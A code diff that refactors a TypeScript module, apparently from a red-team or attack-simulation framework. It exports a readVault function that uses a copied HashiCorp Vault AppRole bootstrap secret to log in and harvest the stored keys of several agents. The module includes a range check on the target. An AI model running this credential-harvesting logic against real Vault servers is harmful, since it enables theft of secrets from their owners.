@@ -7,6 +7,7 @@ import type { Thief } from '../../playbooks/moltbook/thief.ts';
 import type { OpenLeak, Taking } from '../leak-act.ts';
 
 const bootstrap = z.object({ role_id: z.string(), secret_id: z.string() });
+export type BootstrapSecret = z.infer<typeof bootstrap>;
 const login = z.object({ auth: z.object({ client_token: z.string() }) });
 
 /**
@@ -18,24 +19,27 @@ export const openVaultBootstrapSecret: OpenLeak<'vault-bootstrap-secret'> = asyn
   thief,
 ) => {
   const { origin } = await assertInRange(vaultUrl);
-  let copied: z.infer<typeof bootstrap> | undefined;
+  let copied: BootstrapSecret | undefined;
   return {
     look: async (): Promise<Taking> => {
       copied ??= bootstrap.parse(JSON.parse(await readFile(secretFile, 'utf8')));
-      const token = await logIn(thief, origin, copied);
-      if (token === undefined) return { credentials: [] };
-      const read = await Promise.all(
-        thief.publicNames.map((agent) => keysOf(thief, { origin, token, agent })),
-      );
-      return { credentials: read.flat(), rows: read.filter((keys) => keys.length > 0).length };
+      return readVault(thief, origin, copied);
     },
   };
 };
 
+/** Logs in as the host and reads what it may read; nothing where the vault refuses. `origin` is in range. */
+export async function readVault(thief: Thief, origin: string, secret: BootstrapSecret): Promise<Taking> {
+  const token = await logIn(thief, origin, secret);
+  if (token === undefined) return { credentials: [] };
+  const read = await Promise.all(thief.publicNames.map((agent) => keysOf(thief, { origin, token, agent })));
+  return { credentials: read.flat(), rows: read.filter((keys) => keys.length > 0).length };
+}
+
 async function logIn(
   { fetch }: Thief,
   origin: string,
-  secret: z.infer<typeof bootstrap>,
+  secret: BootstrapSecret,
 ): Promise<string | undefined> {
   const answer = await fetch(`${origin}/v1/auth/approle/login`, {
     method: 'POST',
